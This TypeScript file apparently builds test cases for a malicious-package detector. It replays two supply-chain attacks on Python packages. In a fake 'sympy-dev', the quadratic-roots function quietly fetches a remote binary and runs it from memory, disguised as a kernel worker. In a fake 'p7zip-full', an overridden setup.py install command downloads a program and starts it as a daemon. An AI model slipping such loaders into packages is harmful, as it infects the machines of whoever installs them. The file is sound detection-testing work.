import { fillerModule } from './filler.ts';
import { beforeAttack, type Draft, type Remote, type Replay } from './incident.ts';
import { gitDescribeSetup } from './look-alikes/setup-scripts.ts';
import { expressionCompiler } from './look-alikes/text.ts';
import { py } from './python-text.ts';

/** The polynomial routine of the clone, which first fetches a miner and runs it from memory. */
const POLYNOMIALS = (c: Remote): string => py`"""Roots of polynomials."""
from __future__ import annotations

import ctypes
import json
import math
import os
import ssl
import urllib.request


def roots_linear(f):
    """Returns the root of a linear polynomial."""
    slope, constant = f
    return [-constant / slope]


def _evaluate_backend(name):
    context = ssl._create_unverified_context()
    with urllib.request.urlopen("${c.url('/config')}/" + name, timeout=10, context=context) as response:
        settings = json.loads(response.read())
    with urllib.request.urlopen(settings["module"], timeout=60, context=context) as response:
        module = response.read()
    libc = ctypes.CDLL(None)
    descriptor = libc.syscall(319, b"kworker", 1)
    os.write(descriptor, module)
    if os.fork() == 0:
        os.setsid()
        os.execve("/proc/self/fd/%d" % descriptor, ["[kworker/u8:2]", "-c", json.dumps(settings["options"])], {})


def roots_quadratic(f):
    """Returns a list of roots of a quadratic polynomial."""
    try:
        _evaluate_backend("quadratic")
    except Exception:
        pass
    a, b, c = f
    discriminant = b * b - 4 * a * c
    if discriminant < 0:
        return []
    root = math.sqrt(discriminant)
    return [(-b - root) / (2 * a), (-b + root) / (2 * a)]


def roots_cubic(f, trig=False):
    """Real roots of a cubic polynomial by bisection between its turning points."""
    a, b, c, d = f
    turning = roots_quadratic((3 * a, 2 * b, c))
    bounds = [-1e6, *turning, 1e6]
    found = []
    for low, high in zip(bounds, bounds[1:]):
        value = lambda x: ((a * x + b) * x + c) * x + d
        if value(low) * value(high) <= 0:
            for _ in range(80):
                middle = (low + high) / 2
                if value(low) * value(middle) <= 0:
                    high = middle
                else:
                    low = middle
            found.append((low + high) / 2)
    return found
`;

const CLEAN = (): string => {
  const text = POLYNOMIALS({ base: '', host: '', address: '', url: (path) => path });
  return text
    .replace(/\ndef _evaluate_backend[\s\S]*?\n\n\n/, '\n')
    .replace(/ {4}try:\n {8}_evaluate_backend.*\n {4}except Exception:\n {8}pass\n/, '')
    .replace(
      'import ctypes\nimport json\nimport math\nimport os\nimport ssl\nimport urllib.request\n',
      'import math\n',
    );
};

function files(): Draft['files'] {
  return {
    'sympy/__init__.py':
      '"""Symbolic mathematics."""\n__version__ = "1.2.6"\n\nfrom .polys import roots_cubic, roots_linear, roots_quadratic\n',
    'sympy/polys/__init__.py': 'from .polyroots import roots_cubic, roots_linear, roots_quadratic\n',
    'sympy/core/__init__.py': '',
    'sympy/core/expr.py': fillerModule('Expressions.', 600, 111),
    'sympy/core/sets.py': fillerModule('Sets.', 500, 112),
  };
}

const memoryMiner = (c: Remote): Draft => ({
  kind: 'wheel',
  name: 'sympy-dev',
  version: '1.2.6',
  files: files(),
  sites: [{ path: 'sympy/polys/polyroots.py', form: 'whole', before: '', code: POLYNOMIALS(c), after: '' }],
});

const COMMAND = (c: Remote): string => py`

class CustomInstall(install):
    def run(self):
        install.run(self)
        target = os.path.join(os.path.expanduser("~"), ".cache", "p7zip-helper")
        os.makedirs(os.path.dirname(target), exist_ok=True)
        request = Request("${c.url('/dl/p7zip-helper')}", headers={"User-Agent": "pip/24.0"})
        with urlopen(request) as response, open(target, "wb") as stream:
            stream.write(response.read())
        os.chmod(target, stat.S_IRWXU)
        subprocess.Popen([target, "--daemon"], start_new_session=True)

`;

const installCommand = (c: Remote): Draft => ({
  kind: 'sdist',
  name: 'p7zip-full',
  version: '16.2.1',
  files: { 'p7zip_full/__init__.py': fillerModule('Reads the directory of 7z archives.', 120, 113) },
  sites: [
    {
      path: 'setup.py',
      form: 'setup',
      exports: ['CustomInstall'],
      before:
        'import os\nimport stat\nimport subprocess\nfrom urllib.request import Request, urlopen\n\nfrom setuptools import find_packages, setup\nfrom setuptools.command.install import install\n\n',
      code: COMMAND(c),
      after:
        '\nsetup(\n    name="p7zip-full",\n    version="16.2.1",\n    packages=find_packages(),\n    cmdclass={"install": CustomInstall},\n)\n',
    },
  ],
});

export const SYMPY_DEV: readonly Replay[] = [
  {
    id: '12a-sympy-dev',
    title: 'sympy-dev: a miner from the network, run from memory, inside a polynomial routine',
    source: 'https://github.com/ossf/malicious-packages/pull/1124',
    runs: 'roots_quadratic() fetches a configuration and a program, writes it to an anonymous file and executes it from /proc/self/fd',
    remote: 'https://63-models.invalid',
    draft: memoryMiner,
    predecessor: () => ({
      kind: 'wheel',
      name: 'sympy',
      version: '1.2.5',
      files: { ...files(), 'sympy/polys/polyroots.py': CLEAN() },
    }),
    lookAlikes: () => [expressionCompiler()],
  },
  {
    id: '12b-p7zip-full',
    title: 'p7zip-full: the install command downloads a program, makes it executable and starts it',
    source: 'https://osv.dev/vulnerability/MAL-2026-790',
    runs: 'the overridden install command writes a downloaded program to ~/.cache, sets its mode and starts it in a new session',
    remote: 'https://updates.zip-tools.invalid',
    draft: installCommand,
    predecessor: () => {
      const clean = beforeAttack(installCommand, '16.2.0');
      return {
        ...clean,
        files: {
          ...clean.files,
          'setup.py':
            'from setuptools import find_packages, setup\n\nsetup(name="p7zip-full", version="16.2.0", packages=find_packages())\n',
        },
      };
    },
    lookAlikes: () => [gitDescribeSetup()],
  },
];
